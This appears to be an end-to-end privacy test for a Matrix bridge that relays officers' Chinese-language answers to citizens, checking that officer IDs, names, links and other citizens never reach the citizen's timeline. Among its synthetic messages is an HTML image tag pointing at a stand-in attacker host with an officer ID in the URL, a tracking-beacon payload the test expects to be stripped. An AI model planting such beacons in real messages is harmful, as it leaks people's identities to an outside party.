"""Privacy end to end: 200+ officer messages full of identifiers, through the real bridge.

The citizen's whole timeline must contain no officer ID, name or alias (except the department's
chosen signature), no other citizen, and nothing pointing into the officers' room.
"""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

from tests.kit.bridge import BridgeSettings
from tests.kit.clients import UserFactory
from tests.kit.duty import start_duty_room
from tests.test_consultation import body_of, has, open_case, send, thread_reply

MESSAGES = 210


def corpus(officers: list[tuple[str, str]], other_citizen: str, room: str, root: str,
           earlier: list[str], rng: random.Random) -> list[dict[str, Any]]:
    """Officer messages: (mxid, display name) pairs appear as text, pills, mentions, replies."""
    out = []
    for i in range(MESSAGES):
        mxid, name = officers[i % len(officers)]
        answer = f"答复第{i}条"
        pill = f'<a href="https://matrix.to/#/{mxid}">{name}</a>'
        kind = i % 7
        content: dict[str, Any] = {"msgtype": "m.text", "body": f"{answer}，联系 {mxid}（{name}）"}
        if kind == 1:
            content.update(format="org.matrix.custom.html",
                           formatted_body=f"{pill} 说：<b>{answer}</b>", body=f"{name}: {answer}")
        elif kind == 2:
            content["body"] = f"{answer} 见 https://matrix.to/#/{room}/{root} 或 matrix:u/{mxid[1:]}"
        elif kind == 3:
            target = rng.choice(earlier) if earlier else root
            content.update(
                body=f"> <{mxid}> 原话\n\n{answer}",
                format="org.matrix.custom.html",
                formatted_body=(f'<mx-reply><blockquote><a href="https://matrix.to/#/{room}/{target}">'
                                f"In reply to</a> {pill}<br>原话</blockquote></mx-reply>{answer}"),
            )
            content["m.relates_to"] = {"m.in_reply_to": {"event_id": target}}
        elif kind == 4:
            content["body"] = f"{answer}；另一位市民 {other_citizen} 也问过"
            content["m.mentions"] = {"user_ids": [mxid, other_citizen]}
        elif kind == 5:
            content["body"] = f"{answer} 抄送 @{mxid.split(':')[0][1:]} 和 {name}"
        elif kind == 6:
            content.update(format="org.matrix.custom.html",
                           formatted_body=f'<a href="https://matrix.to/#/{other_citizen}">x</a>{answer}'
                                          f'<img src="https://evil.example/{mxid}.png">',
                           body=f"{answer}")
        out.append(content)
    return out


async def test_officer_corpus_leaks_nothing_to_the_citizen(
    bridge_settings: BridgeSettings, roster_dir: Path, tmp_path: Path, users: UserFactory
) -> None:
    duty = await start_duty_room(bridge_settings, roster_dir, tmp_path, users)
    try:
        officer, second = duty.officers["fgw1"], duty.officers["fgw2"]
        await officer.client.set_displayname("张科长")
        await second.client.set_displayname("李四")
        other = await users("citizen")
        await open_case(duty, other, "fgw", "另一位市民的问题")
        citizen = await users("citizen")
        dm, root, _ = await open_case(duty, citizen, "fgw", "我的问题")
        room = duty.officers_rooms["fgw"]
        rng = random.Random(4821)
        people = [(officer.user_id, "张科长"), (second.user_id, "李四"),
                  (duty.officers["chief"].user_id, "值班员 02")]
        earlier: list[str] = []
        for i, content in enumerate(corpus(people, other.user_id, room, root, earlier, rng)):
            sender = officer if i % 2 == 0 else second
            relates = content.pop("m.relates_to", {})
            threaded = thread_reply(root, "")["m.relates_to"]
            if "m.in_reply_to" in relates:
                threaded.update(is_falling_back=False, **relates)
            content["m.relates_to"] = threaded
            earlier.append(await send(sender, room, content))
            if i % 20 == 19:  # an edit full of identifiers, now and then
                await send(sender, room, {
                    "msgtype": "m.text", "body": f"* {sender.user_id} 更正 {i}",
                    "m.new_content": {"msgtype": "m.text", "body": f"{sender.user_id} 更正 {i}"},
                    "m.relates_to": {"rel_type": "m.replace", "event_id": earlier[-1]},
                })
        await citizen.wait_for(dm, has(f"答复第{MESSAGES - 1}条"), timeout=180)
        await citizen.wait_for(dm, has(f"更正 {MESSAGES - 11}"), timeout=60)
        timeline = await citizen.history(dm)
        relayed = [e for e in timeline if e["sender"] == duty.ghost("fgw")]
        answers = [e for e in relayed if "答复第" in body_of(e)]
        assert len(answers) == MESSAGES
        text = json.dumps(relayed, ensure_ascii=False)
        forbidden = [officer.user_id, second.user_id, duty.officers["chief"].user_id, "张科长",
                     "李四", other.user_id, room, root, "matrix.to", "mx-reply", "evil.example",
                     officer.user_id.split(":")[0][1:], other.user_id.split(":")[0][1:]]
        leaks = [f for f in forbidden if f in text]
        assert leaks == []
        assert all("值班员 0" in body_of(e) for e in answers)  # signed with the duty alias only
    finally:
        await duty.bridge.stop()
